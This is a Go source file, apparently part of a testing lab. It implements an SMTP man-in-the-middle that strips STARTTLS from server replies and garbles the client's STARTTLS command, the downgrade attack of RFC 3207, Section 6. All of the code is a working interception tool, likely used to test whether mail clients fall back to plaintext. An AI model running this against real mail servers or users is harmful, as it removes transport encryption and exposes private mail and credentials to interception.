package lab

import (
	"bufio"
	"context"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
)

// stripper is the attacker in the middle of an SMTP session: he passes on
// everything but the STARTTLS line of the EHLO reply, and makes the command
// one that no server knows (the attack that RFC 3207, Section 6 describes).
type stripper struct {
	client net.Conn // from the guest
	server net.Conn // to the real MX host
	told   func()   // called once, when STARTTLS was taken out
}

// run returns when both directions have ended; it closes both connections.
func (s stripper) run(ctx context.Context) {
	stop := context.AfterFunc(ctx, func() {
		_ = s.client.Close()
		_ = s.server.Close()
	})
	defer stop()
	var inData atomic.Bool
	var wg sync.WaitGroup
	wg.Go(func() {
		s.downstream(&inData)
		_ = s.client.Close()
		_ = s.server.Close()
	})
	s.upstream(&inData)
	_ = s.server.Close()
	_ = s.client.Close()
	wg.Wait()
}

// downstream copies the server's replies.
func (s stripper) downstream(inData *atomic.Bool) {
	r := bufio.NewReader(s.server)
	told := false
	for {
		line, err := r.ReadString('\n')
		if len(line) > 3 && strings.EqualFold(strings.TrimRight(line[4:], "\r\n"), "STARTTLS") {
			if !told {
				s.told()
				told = true
			}
			if line[3] == '-' {
				continue
			}
			line = line[:4] + "XXXXXXXX\r\n" // the last line must stay
		}
		if strings.HasPrefix(line, "354") {
			inData.Store(true) // before the client can know
		}
		if _, werr := io.WriteString(s.client, line); err != nil || werr != nil {
			return
		}
	}
}

// upstream copies the client's commands and messages.
func (s stripper) upstream(inData *atomic.Bool) {
	r := bufio.NewReaderSize(s.client, mxLine)
	atStart := true
	for {
		piece, err := r.ReadSlice('\n')
		line := string(piece)
		switch {
		case atStart && inData.Load() && line == ".\r\n":
			inData.Store(false)
		case atStart && !inData.Load() && strings.EqualFold(strings.TrimSpace(line), "STARTTLS"):
			line = "XXXXXXXX\r\n"
		}
		atStart = strings.HasSuffix(line, "\n")
		if _, werr := io.WriteString(s.server, line); werr != nil || err != nil && err != bufio.ErrBufferFull {
			return
		}
	}
}
